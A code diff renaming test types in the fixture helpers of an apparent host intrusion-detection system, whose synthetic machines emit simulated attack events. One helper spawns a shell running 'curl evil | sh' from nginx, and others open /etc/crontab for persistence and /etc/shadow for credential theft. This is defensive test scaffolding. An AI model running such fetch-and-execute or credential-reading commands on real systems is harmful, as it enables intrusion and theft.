@@ -1,5 +1,5 @@
 import type { InRecord, OutRecord } from '@ringfence/bus';
-import { createTestHost, O, type TestHost, type TestProcess } from '@ringfence/testkit';
+import { createSyntheticHost, O, type SyntheticHost, type SyntheticProcess } from '@ringfence/synthetic';
 import { decode, type Event, type Incident, LANE, TOPIC, U64_ZERO, u64FromBigInt } from '@ringfence/wire';
 import { createEdgePipeline, type DetectorOptions, type DetectorPipeline, type EdgePipeline } from '../src/index.ts';
 import { createStats } from '../src/metrics.ts';
@@ -35,7 +35,7 @@ export class TestFleet {
   readonly #options: FleetOptions;
   readonly #byHost = new Map<string, Stage>();
   readonly #edges: Stage;
-  readonly #feeds = new Map<TestHost, ReturnType<typeof createFeed>>();
+  readonly #feeds = new Map<SyntheticHost, ReturnType<typeof createFeed>>();
   readonly #offsets = new Map<string, number>();
 
   constructor(options: FleetOptions = {}) {
@@ -43,7 +43,7 @@ export class TestFleet {
     this.#edges = this.#add(() => createEdgePipeline({ stats: createStats() }));
   }
 
-  feed(host: TestHost, batches: readonly Uint8Array[]): void {
+  feed(host: SyntheticHost, batches: readonly Uint8Array[]): void {
     const feed = this.#feeds.get(host) ?? createFeed(host);
     this.#feeds.set(host, feed);
     for (const { key, value } of feed.of(batches)) this.#route({ topic: TOPIC.events, key, value });
@@ -73,7 +73,7 @@ export class TestFleet {
     return this.incidents.filter(({ state }) => state === 'open');
   }
 
-  detector({ hostId }: Pick<TestHost, 'hostId'>): DetectorPipeline {
+  detector({ hostId }: Pick<SyntheticHost, 'hostId'>): DetectorPipeline {
     return this.#stageOf(hostId).work as DetectorPipeline;
   }
 
@@ -120,9 +120,9 @@ export class TestFleet {
 
 /** A host with an address, an SSH server and a clock. */
 export class Machine {
-  readonly host: TestHost;
+  readonly host: SyntheticHost;
   readonly address: string;
-  readonly sshd: TestProcess;
+  readonly sshd: SyntheticProcess;
   #logSequence = 0;
 
   constructor(number: number, options: { readonly clockOffset?: number; readonly ktime?: number } = {}) {
@@ -130,13 +130,13 @@ export class Machine {
     const hostId = `host-${number}`;
     const wallOffset = Date.UTC(2026, 0, 1) * 1000 + 3_600_000_000 - ktime + clockOffset;
     this.address = `10.0.0.${number}`;
-    this.host = createTestHost({ hostId, bootId: `boot-${number}`, run: BigInt(number), ktime, wallOffset });
+    this.host = createSyntheticHost({ hostId, bootId: `boot-${number}`, run: BigInt(number), ktime, wallOffset });
     this.host.snapshot(this.host.init, '/usr/lib/systemd/systemd');
     this.sshd = this.host.spawn(this.host.init, '/usr/sbin/sshd');
   }
 
   /** Returns the shell of an SSH login from that address. */
-  login(from: string, port: number): TestProcess {
+  login(from: string, port: number): SyntheticProcess {
     const { host, sshd, address } = this;
     host.accept(sshd, { address: from, port }, { address, port: 22 });
     const session = host.spawn(sshd, '/usr/lib/openssh/sshd-session');
@@ -144,13 +144,13 @@ export class Machine {
   }
 
   /** Runs ssh from the shell to the other host. */
-  ssh(shell: TestProcess, to: Machine, port: number): void {
+  ssh(shell: SyntheticProcess, to: Machine, port: number): void {
     const client = this.host.spawn(shell, '/usr/bin/ssh', ['ssh', to.address]);
     this.host.connect(client, to.address, 22, { localAddress: this.address, localPort: port });
   }
 
   /** Returns a shell that a web server started, and that ran a file it had fetched. */
-  webShell(): TestProcess {
+  webShell(): SyntheticProcess {
     const { host } = this;
     const nginx = host.spawn(host.init, '/usr/sbin/nginx');
     const shell = host.spawn(nginx, '/bin/sh', ['sh', '-c', 'curl evil | sh']);
@@ -161,11 +161,11 @@ export class Machine {
     return shell;
   }
 
-  persist(shell: TestProcess): void {
+  persist(shell: SyntheticProcess): void {
     this.host.open(shell, '/etc/crontab', O.WRONLY);
   }
 
-  steal(shell: TestProcess): void {
+  steal(shell: SyntheticProcess): void {
     this.host.open(shell, '/etc/shadow');
   }
 
@@ -174,7 +174,7 @@ export class Machine {
   }
 
   /** Adds sshd's log line about a login that succeeded, as the enricher writes it; `process` wrote the line. */
-  logLogin(process: TestProcess | undefined, line: LoginLine): void {
+  logLogin(process: SyntheticProcess | undefined, line: LoginLine): void {
     const text = Buffer.from('Accepted publickey');
     this.host.append({
       lane: LANE.log,
